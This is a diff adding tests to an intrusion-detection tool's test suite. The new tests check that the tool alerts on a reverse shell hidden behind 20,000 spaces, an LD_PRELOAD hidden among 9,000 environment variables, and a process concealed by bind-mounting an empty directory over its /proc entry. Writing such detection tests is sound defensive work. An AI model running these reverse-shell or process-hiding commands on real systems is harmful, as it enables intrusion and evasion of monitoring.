@@ -232,6 +232,20 @@ def on_a_connection():
         check("a connection with 127.0.0.1 port" in alert["message"], alert["message"])
 
 
+@test("reverse-shell finds it behind 20,000 blanks")
+def behind_blanks():
+    with watch("reverse-shell") as w:
+        pid = run_in_shell(" " * 20000 + "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")
+        w.wait(lambda: alerts_about(w, pid), f"an alert about {pid}")
+
+
+@test("ld-preload finds a library behind 9,000 variables")
+def behind_variables():
+    with watch("ld-preload") as w:
+        pid = run("env", *["A="] * 9000, "LD_PRELOAD=/tmp/no-such.so", "true")
+        w.wait(lambda: alerts_about(w, pid), f"an alert about {pid}")
+
+
 @test("exec-from-writable tells of a program that is in memory alone")
 def from_memory():
     with watch("exec-from-writable") as w:
@@ -298,6 +312,36 @@ def in_container():
                 no_errors(w, script)
     finally:
         os.rmdir(group)
+
+
+@contextlib.contextmanager
+def covered(pid):
+    """An empty directory lies over its /proc/PID until the end of the block."""
+    empty = os.path.join(scratch(), "empty")
+    os.makedirs(empty, exist_ok=True)
+    mounted = subprocess.run(["mount", "--bind", empty, f"/proc/{pid}"], stderr=subprocess.PIPE, text=True)
+    if mounted.returncode:
+        raise Skip(f"nothing can be mounted here: {mounted.stderr.strip()}")
+    try:
+        yield
+    finally:
+        subprocess.run(["umount", f"/proc/{pid}"], check=True)
+
+
+@test("hidden-process tells of a process with a mount over its /proc/PID, and not of those that come and go")
+def hidden_process():
+    with watch("hidden-process", "every=0.2", "again=0.2") as w:
+        pid, shown = keep("covered", "wait"), keep("shown", "wait")
+        with covered(pid):
+            alert = w.wait(lambda: run("short-lived") and alerts_about(w, pid), f"an alert about {pid}")[0]
+            check(f"pid {pid} lives, but /proc/{pid} does not show it" in alert["message"], alert["message"])
+            check(alert["moonwatch"]["alert"]["severity"] == "critical", alert["moonwatch"])
+        check(not alerts_about(w, shown), f"alerted of what is shown: {alerts_about(w, shown)}")
+        told = [e for e in w.events if "moonwatch" in e and "alert" in e["moonwatch"]]
+        others = [e for e in told if "lives, but" in e["message"] and e["message"] != alert["message"]]
+        check(not others, f"alerted of what came and went: {others}")
+        let_go()
+        no_errors(w, "hidden-process")
 
 
 @test("first-seen tells of a program once, also over a restart")
